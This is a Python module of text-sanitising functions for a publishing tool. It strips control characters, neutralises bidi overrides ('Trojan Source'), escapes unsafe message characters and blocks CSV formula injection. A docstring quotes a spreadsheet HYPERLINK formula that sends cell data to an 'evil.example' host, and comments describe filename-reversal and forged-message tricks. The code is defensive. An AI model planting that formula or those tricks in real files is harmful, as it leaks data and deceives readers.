"""The text policy: what any text from outside (articles, remote feeds, imports, web forms)
loses before it is stored, shown or put in a header: control characters, and in a one-line
field (a title, a name, a Subject) line breaks and bidi controls that could reach past it.
"""

from __future__ import annotations

import re

# C0 controls other than tab and newline, DEL, C1 controls, and what XML 1.0 cannot carry
# (lone surrogates, U+FFFE/U+FFFF): never wanted in a title, a Subject header or a feed.
CONTROL_CHARS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def strip_controls(text: str) -> str:
    """``text`` without control characters; line breaks of any style become ``\\n``."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return CONTROL_CHARS.sub("", text) if CONTROL_CHARS.search(text) else text


def one_line(text: str) -> str:
    """``text`` as one clean line: control characters removed, white space collapsed, and
    its bidi controls unable to reach past it (``balance_bidi``)."""
    line = " ".join(strip_controls(text).split())
    if line.isascii() or not BIDI_CONTROLS.search(line):  # isascii: O(1), nearly every line
        return line
    return balance_bidi(line)


# Unicode's explicit bidi formatting characters (UAX #9): embeddings LRE, RLE and overrides
# LRO, RLO ended by PDF; isolates LRI, RLI, FSI ended by PDI. Left open in a title, one turns
# whatever follows it around: the rest of a Subject line, the next item of a reader's list.
# An override shows characters in an order other than their own (U+202E then ``exe.pdf`` reads as
# ``fdp.exe``: CVE-2021-42574, "Trojan Source"), which nothing a publisher writes needs.
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
_EMBEDDINGS = {"\u202a", "\u202b"}
_OVERRIDES = {"\u202d", "\u202e"}
_ISOLATES = {"\u2066", "\u2067", "\u2068"}
_PDF, _PDI = "\u202c", "\u2069"


def balance_bidi(text: str) -> str:
    """``text`` without bidi overrides and with every embedding and isolate it opens closed
    within it; a closer with nothing to close is dropped. Marks (LRM, RLM, ALM) stay: they
    open nothing."""
    out: list[str] = []
    open_: list[str] = []  # what is open, innermost last: _PDF or _PDI
    for char in text:
        if char in _OVERRIDES:
            open_.append("")  # its PDF closes nothing shown
            continue
        if char in _EMBEDDINGS or char in _ISOLATES:
            open_.append(_PDF if char in _EMBEDDINGS else _PDI)
        elif char == _PDF:
            if not open_ or open_[-1] == _PDI:
                continue  # PDF never closes an isolate (UAX #9, X7)
            char = open_.pop()
        elif char == _PDI:
            if _PDI not in open_:
                continue
            while open_.pop() != _PDI:  # a PDI closes the embeddings inside its isolate
                pass
        if char:
            out.append(char)
    out.extend(reversed([closer for closer in open_ if closer]))
    return "".join(out)


def printable(text: str) -> str:
    """``text`` as a message may show it on one line: every character that does not print
    (a line break, a terminal escape, a bidi control) spelt as an escape, ``\\x0a`` or
    ``\\u202e``. For names from outside that a message must still identify exactly, such as a
    file name in ``error: content/<name>:3: …``."""
    if text.isprintable():
        return text
    return "".join(
        c if c.isprintable() else (f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}")
        for c in text
    )


# What a message line must not carry as is: a line break of any kind (a hostile server's
# "1\nerror: …" would forge a second message), other controls (a terminal escape can clear
# the screen or hide text), and bidi controls (they reorder what follows on the line)
_MESSAGE_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def message_line(text: str) -> str:
    """``text`` as one line of a warning or error: what ``_MESSAGE_UNSAFE`` matches is spelt
    as an escape (``\\x0a``, ``\\u202e``); everything else, any script included, as is."""
    if not _MESSAGE_UNSAFE.search(text):
        return text
    return _MESSAGE_UNSAFE.sub(
        lambda m: f"\\x{ord(m[0]):02x}" if ord(m[0]) < 0x100 else f"\\u{ord(m[0]):04x}", text
    )


# RFC 6838 section 4.2: a type and a subtype of restricted-name characters
_MEDIA_TYPE = re.compile(
    r"[A-Za-z0-9][A-Za-z0-9!#$&^_.+-]{0,126}/[A-Za-z0-9][A-Za-z0-9!#$&^_.+-]{0,126}"
)


def media_type(value: object) -> str | None:
    """A MIME type from outside (a feed's enclosure ``type``, WordPress ``mime_type``) as a
    feed may carry it: ``type/subtype`` in lower case, parameters dropped; None when it is no
    media type (``image/``, one with a line break), so the feed names the type by the URL."""
    if not isinstance(value, str):
        return None
    essence = value.split(";", 1)[0].strip()
    return essence.lower() if _MEDIA_TYPE.fullmatch(essence) else None


# what makes a spreadsheet run a cell as a formula (OWASP, CSV injection)
FORMULA_START = "=+-@"


def no_formula(text: str) -> str:
    """``text`` without what would start a spreadsheet formula (``=``, ``+``, ``-``, ``@``, and
    white space before them): for a name a reader typed (a web form, another service's
    form) that is written into the subscriber files, which publishers open in spreadsheets
    (``=HYPERLINK("https://evil.example/?"&A2)`` would run there)."""
    start = 0
    while start < len(text) and (text[start] in FORMULA_START or text[start].isspace()):
        start += 1
    return text[start:]
